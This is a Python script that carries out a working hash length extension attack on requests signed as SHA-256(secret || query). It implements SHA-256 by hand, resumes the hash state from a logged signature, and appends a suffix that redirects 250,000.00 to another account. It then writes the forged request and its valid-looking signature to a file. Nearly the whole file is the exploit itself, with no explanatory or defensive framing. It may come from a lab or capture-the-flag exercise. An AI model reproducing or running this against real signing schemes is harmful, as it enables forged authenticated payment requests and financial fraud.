"""Length extension on sig = SHA-256(secret || query): a pure-Python SHA-256 whose state starts
from a logged signature, with the 20-byte secret's padding accounted for."""

import struct
import urllib.parse
from pathlib import Path


def primes(n: int) -> list[int]:
    out, c = [], 2
    while len(out) < n:
        if all(c % p for p in out if p * p <= c):
            out.append(c)
        c += 1
    return out


def frac_root(p: int, k: int) -> int:
    """First 32 bits of the fractional part of p ** (1/k), exactly (integer root of p << 32k)."""
    x = p << (32 * k)
    lo, hi = 0, 1 << (32 + 8)
    while lo < hi:
        mid = (lo + hi + 1) // 2
        if mid**k <= x:
            lo = mid
        else:
            hi = mid - 1
    return lo & 0xFFFFFFFF


K = [frac_root(p, 3) for p in primes(64)]
M = 0xFFFFFFFF


def rotr(x: int, n: int) -> int:
    return (x >> n | x << (32 - n)) & M


def compress(h: list[int], block: bytes) -> list[int]:
    w = list(struct.unpack(">16I", block))
    for t in range(16, 64):
        s0 = rotr(w[t - 15], 7) ^ rotr(w[t - 15], 18) ^ w[t - 15] >> 3
        s1 = rotr(w[t - 2], 17) ^ rotr(w[t - 2], 19) ^ w[t - 2] >> 10
        w.append((w[t - 16] + s0 + w[t - 7] + s1) & M)
    a, b, c, d, e, f, g, hh = h
    for t in range(64):
        t1 = (hh + (rotr(e, 6) ^ rotr(e, 11) ^ rotr(e, 25)) + ((e & f) ^ (~e & g)) + K[t] + w[t]) & M
        t2 = ((rotr(a, 2) ^ rotr(a, 13) ^ rotr(a, 22)) + ((a & b) ^ (a & c) ^ (b & c))) & M
        a, b, c, d, e, f, g, hh = (t1 + t2) & M, a, b, c, (d + t1) & M, e, f, g
    return [(x + y) & M for x, y in zip(h, [a, b, c, d, e, f, g, hh])]


def padding(length: int) -> bytes:
    return b"\x80" + b"\x00" * ((55 - length) % 64) + struct.pack(">Q", 8 * length)


line = Path("requests.log").read_text().splitlines()[0]
query, _, sig = line.rpartition("&sig=")
raw = urllib.parse.unquote_to_bytes(query)
glue = padding(20 + len(raw))
suffix = b"&to=acct-6666&amount=250000.00&nonce=00000000deadbeef&ts=1770900000"
state = list(struct.unpack(">8I", bytes.fromhex(sig)))
total = 20 + len(raw) + len(glue) + len(suffix)
tail = suffix + padding(total)
for i in range(0, len(tail), 64):
    state = compress(state, tail[i : i + 64])
new_sig = struct.pack(">8I", *state).hex()
forged = urllib.parse.quote_from_bytes(raw + glue + suffix, safe="&=-.")
Path("forged.txt").write_text(f"{forged}&sig={new_sig}\n")
